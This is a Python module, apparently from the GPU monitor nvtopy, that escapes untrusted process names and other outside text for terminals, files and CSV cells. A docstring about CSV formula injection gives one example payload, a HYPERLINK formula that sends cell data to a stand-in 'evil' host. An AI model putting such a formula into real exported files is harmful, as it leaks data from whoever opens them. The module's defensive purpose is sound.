"""Text from outside nvtopy, made safe for where it goes: a terminal, or a file.

Why: a process can put anything in its argv (escape sequences that retitle the
terminal, newlines that break a row, bytes that are not UTF-8), and so can a
driver string, a recording or a remote exporter's label. Python hands us such
text as ``str``, undecodable bytes as lone surrogates (``surrogateescape``).
Nothing is cleaned where it comes in: the model keeps the text exactly, and
each output applies one rule, in one function, where it writes.

The policy (README, "Text from outside"):

- **Terminal** (TUI, ``--once`` text, error messages): :func:`safe_text`.
  Control characters (C0, DEL, C1), bidi overrides and undecodable bytes are
  shown as visible escapes (``\\e``, ``\\n``, ``\\x9b``, ``\\u202e``, ``\\xff``).
  Meant for eyes, not for machines.
- **Files and the wire** (JSON, JSONL, CSV, Prometheus labels):
  :func:`escape_text`. The result is always valid UTF-8 with no control
  characters or bidi controls; each of those and each undecodable byte is written as
  ``\\xNN`` (the bytes of its UTF-8 encoding, or the raw byte), and a literal
  backslash is doubled only where it would otherwise read as an escape (before
  another backslash or before ``xNN``). Ordinary text, backslashes included,
  passes unchanged. :func:`unescape_text` reverses it exactly:
  ``unescape_text(escape_text(s)) == s`` for every ``s`` that is a decoding of
  bytes (``b.decode("utf-8", "surrogateescape")``), which is all the OS,
  psutil and the driver can hand us.
- **Spreadsheet cells** (every CSV nvtopy writes): :func:`formula_safe` on top of
  :func:`escape_text`: a cell a spreadsheet would run as a formula gets a leading ``'``.
"""

from __future__ import annotations

import re

__all__ = [
    "FORMULA_START",
    "escape_text",
    "excerpt",
    "formula_safe",
    "quoted",
    "safe_text",
    "unescape_bytes",
    "unescape_text",
]

# C0 controls, DEL and C1 controls -> visible escapes; tab and newline get short forms.
_TABLE: dict[int, str] = {code: f"\\x{code:02x}" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))}
_TABLE.update({0x09: " ", 0x0A: "\\n", 0x0D: "\\r", 0x1B: "\\e"})
# Bidi controls reorder what is shown ("Trojan source"); line/paragraph separators break a row.
_BIDI = (0x200E, 0x200F, 0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
_TABLE.update({code: f"\\u{code:04x}" for code in _BIDI})
# Undecodable bytes (surrogateescape'd to U+DC80..U+DCFF) -> the byte; any other lone surrogate -> its
# code. A regex, not 2,048 more table entries: building those cost every start-up a millisecond.
_SURROGATE = re.compile("[\ud800-\udfff]")


def _visible_surrogate(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code - 0xDC00:02x}" if 0xDC80 <= code <= 0xDCFF else f"\\u{code:04x}"


def safe_text(text: str | None) -> str:
    """``text`` for a terminal: every control character, bidi override and undecodable byte made visible."""
    if not text:
        return text or ""
    if text.isprintable():
        return text
    return _SURROGATE.sub(_visible_surrogate, text.translate(_TABLE))


# What escape_text must write as \xNN: C0, DEL, C1, bidi controls and every surrogate (undecodable bytes and
# lone surrogates, which UTF-8 cannot encode). A backslash is doubled before "\" or "xNN" and
# before a character that is itself escaped (whose escape starts with a backslash).
_ESCAPED = "\x00-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff"
_NEEDS_WORK = re.compile(rf"[{_ESCAPED}]|\\(?=[\\{_ESCAPED}]|x[0-9a-fA-F]{{2}})")
_UNESCAPE = re.compile(r"\\\\|\\x([0-9a-fA-F]{2})")


def _escape_one(match: re.Match[str]) -> str:
    char = match.group()
    if char == "\\":
        return "\\\\"
    code = ord(char)
    if 0xDC80 <= code <= 0xDCFF:  # an undecodable byte, as surrogateescape carries it
        return f"\\x{code - 0xDC00:02x}"
    return "".join(f"\\x{b:02x}" for b in char.encode("utf-8", "surrogatepass"))


def escape_text(text: str | None) -> str | None:
    """``text`` for a file or the wire: valid UTF-8, no control characters, reversible (module docstring)."""
    if text is None:
        return None
    if (text.isprintable() and "\\" not in text) or not _NEEDS_WORK.search(text):
        return text
    return _NEEDS_WORK.sub(_escape_one, text)


def unescape_bytes(text: str) -> bytes:
    """The exact bytes :func:`escape_text` was given (as UTF-8, undecodable bytes as they were)."""
    out = bytearray()
    position = 0
    for match in _UNESCAPE.finditer(text):
        out += text[position : match.start()].encode("utf-8", "surrogatepass")
        out += b"\\" if match.group(1) is None else bytes((int(match.group(1), 16),))
        position = match.end()
    out += text[position:].encode("utf-8", "surrogatepass")
    return bytes(out)


def unescape_text(text: str | None) -> str | None:
    """Reverse :func:`escape_text`: the original string, undecodable bytes as lone surrogates again."""
    if text is None or "\\" not in text:
        return text
    return unescape_bytes(text).decode("utf-8", "surrogateescape")


FORMULA_START = ("=", "+", "-", "@")
"""What makes a cell a formula to Excel, LibreOffice and Google Sheets (OWASP's "CSV injection"); a tab or
a carriage return, the other two, never starts an escaped cell (:func:`escape_text` writes them as escapes)."""


def formula_safe(text: str) -> str:
    """A CSV text cell (already escaped) that a spreadsheet shows as text, never runs: ``'`` before a formula start.

    Why: a process named ``=HYPERLINK("http://evil/?"&A1,"ok")`` or a command line starting with ``@SUM`` is a
    formula to whoever opens the log in a spreadsheet. The ``'`` is what the spreadsheets themselves use to
    say "text"; a reader that is not a spreadsheet drops a leading ``'`` from a cell that starts ``'=``,
    ``'+``, ``'-`` or ``'@`` to get the text back. Numbers are written as numbers, not through here, so a
    negative figure stays a number.
    """
    return "'" + text if text.startswith(FORMULA_START) else text


def excerpt(
    value: object,
    limit: int = 100,
    *,
    mark: str = "…",
    safe: bool = True,
    whole_escapes: bool = False,
    ascii_only: bool = False,
    mark_within: bool = True,
) -> str:
    """Outside text (a value, an exception's message, a server's words) for a one-line message: short.

    The one helper every "quote briefly what the outside said" message uses: ``str(value)``,
    whole if it fits in ``limit`` characters, else cut and ``mark`` added. By default it is made
    visible first (:func:`safe_text`) and ``limit`` counts what is shown. Options, each for a
    caller that needs it:

    - ``mark_within``: the mark counts in ``limit`` (the result is at most ``limit`` long);
      False: up to ``limit`` characters are kept and the mark follows them;
    - ``safe=False``: the text as it is (a caller whose readers make it safe where they show it);
    - ``whole_escapes``: an escape is never cut in half (by default the cut is character by character);
    - ``ascii_only`` (with ``whole_escapes``): non-ASCII shown as ``\\xNN``/``\\uNNNN``, as repr()
      would -- for text that quotes a peer's bytes decoded as Latin-1 (http.client's status line).
    """
    text = str(value)
    budget = limit - len(mark) if mark_within else limit
    if not whole_escapes:
        if safe:
            text = safe_text(text)
        return text if len(text) <= limit else text[:budget] + mark
    pieces = [safe_text(char) for char in text[: limit + 1]]  # each one character or more: enough to decide
    if ascii_only:
        pieces = [piece.encode("ascii", "backslashreplace").decode("ascii") for piece in pieces]
    if sum(map(len, pieces)) <= limit:
        return "".join(pieces)
    out: list[str] = []
    size = 0
    for piece in pieces:
        if size + len(piece) > budget:
            break
        out.append(piece)
        size += len(piece)
    return "".join(out) + mark


def quoted(text: str, limit: int = 80) -> str:
    """A value from outside quoted back in a message: ``repr`` (control characters escaped, so it cannot restyle
    the terminal) of its :func:`excerpt` (a pasted paragraph or a 5,000-digit entry stays one short line):
    ``unknown option '--fast'``, ``--gpus: no GPU matches 'GPU-abc…'``.
    """
    return repr(excerpt(text, limit, safe=False))
